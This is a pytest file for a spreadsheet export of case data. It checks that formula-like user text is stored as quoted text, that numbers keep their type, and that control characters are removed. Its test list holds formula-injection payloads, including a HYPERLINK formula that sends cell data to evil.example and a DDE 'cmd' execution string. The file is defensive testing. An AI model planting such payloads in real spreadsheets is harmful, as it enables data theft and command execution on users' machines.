"""Spreadsheets built from case data: text typed by users is never evaluated as a formula."""
from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from engine.cases.exports import build_workbook, formula_like

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           "\t=1+1", "\r=1+1"]


def _read(data: bytes):
    return load_workbook(io.BytesIO(data)).active


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_is_written_as_text(value):
    sheet = _read(build_workbook(title="案件", header=["名称"], rows=[[value]]))
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type == "s"
    assert cell.value == value  # shown exactly as typed, not evaluated and not altered
    assert cell.quotePrefix is True  # Excel keeps it text even when the cell is edited


def test_plain_text_and_real_numbers_keep_their_type():
    sheet = _read(build_workbook(title="案件", header=["名称", "金额", "日期"], rows=[["城关镇", -25000, "2026-03-02"]]))
    name, amount, day = (sheet.cell(row=2, column=i) for i in (1, 2, 3))
    assert (name.value, name.data_type, name.quotePrefix) == ("城关镇", "s", False)
    assert (amount.value, amount.data_type) == (-25000, "n")
    assert (day.value, day.data_type) == ("2026-03-02", "s")


def test_header_note_and_title_are_neutralised_too():
    sheet = _read(build_workbook(title="=bad", header=["=名称"], rows=[["x"]], note="-共 3 条"))
    assert sheet.title == "=bad"
    assert sheet.cell(row=1, column=1).data_type == "s" and sheet.cell(row=1, column=1).value == "=名称"
    last = sheet.cell(row=sheet.max_row, column=1)
    assert last.data_type == "s" and last.value == "-共 3 条"


def test_control_characters_do_not_break_the_export():
    # openpyxl refuses these characters outright; one bad party name must not fail the whole export.
    sheet = _read(build_workbook(title="案件", header=["名称"], rows=[["张\x0b三\x01"]]))
    assert sheet.cell(row=2, column=1).value == "张三"


def test_formula_like():
    assert [formula_like(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "1", "", "张三", -1, None)] == \
        [True, True, True, True, True, True, False, False, False, False, False]
